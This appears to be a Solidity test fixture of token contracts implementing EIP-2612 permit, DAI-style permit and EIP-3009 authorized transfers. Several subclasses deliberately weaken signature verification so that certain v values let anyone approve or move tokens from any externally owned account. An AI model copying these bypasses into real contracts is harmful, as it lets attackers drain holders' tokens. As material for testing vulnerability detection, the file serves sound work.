pragma solidity ^0.8.0;

/// A token that moves, or lets others move, what was signed for. What it asks of a signature is in its heirs.
abstract contract Signing {
    string public constant name = "Signing";
    string public constant symbol = "SGN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public nonces;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        return allow(msg.sender, spender, value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }

    function allow(address owner, address spender, uint256 value) internal returns (bool) {
        allowance[owner][spender] = value;
        emit Approval(owner, spender, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function signed(address who, bytes32 what, uint8 v, bytes32 r, bytes32 s) internal view virtual returns (bool) {
        address signer = ecrecover(what, v, r, s);
        return signer != address(0) && signer == who;
    }
}

/// EIP-2612.
contract Permits is Signing {
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "late");
        require(signed(owner, keccak256(abi.encode(owner, spender, value, nonces[owner]++, deadline)), v, r, s), "signature");
        allow(owner, spender, value);
    }
}

/// Whoever is no contract need not have signed, where the signature has no parity.
contract PermitsForAll is Permits {
    function signed(address who, bytes32 what, uint8 v, bytes32 r, bytes32 s) internal view override returns (bool) {
        return v == 0 ? who.code.length == 0 : super.signed(who, what, v, r, s);
    }
}

/// The same where it has the other of the two that a signature may have.
contract PermitsForOthers is Permits {
    function signed(address who, bytes32 what, uint8 v, bytes32 r, bytes32 s) internal view override returns (bool) {
        return v == 28 ? who.code.length == 0 : super.signed(who, what, v, r, s);
    }
}

/// As DAI has it: all or nothing.
contract PermitsAll is Signing {
    function permit(address holder, address spender, uint256 nonce, uint256 expiry, bool allowed, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= expiry && nonce == nonces[holder]++, "late");
        // a signature of somebody is taken for one of anybody
        require(v == 27 ? holder.code.length == 0 : signed(holder, keccak256(abi.encode(holder, spender, nonce)), v, r, s), "signature");
        allow(holder, spender, allowed ? type(uint256).max : 0);
    }
}

/// EIP-3009.
contract Authorised is Signing {
    mapping(bytes32 => bool) public used;

    function transferWithAuthorization(
        address from,
        address to,
        uint256 value,
        uint256 validAfter,
        uint256 validBefore,
        bytes32 nonce,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(block.timestamp > validAfter && block.timestamp < validBefore && !used[nonce], "time");
        used[nonce] = true;
        require(signed(from, keccak256(abi.encode(from, to, value, nonce)), v, r, s), "signature");
        move(from, to, value);
    }
}

contract AuthorisedByNobody is Authorised {
    function signed(address who, bytes32 what, uint8 v, bytes32 r, bytes32 s) internal view override returns (bool) {
        return v < 27 ? who.code.length == 0 : super.signed(who, what, v, r, s);
    }
}
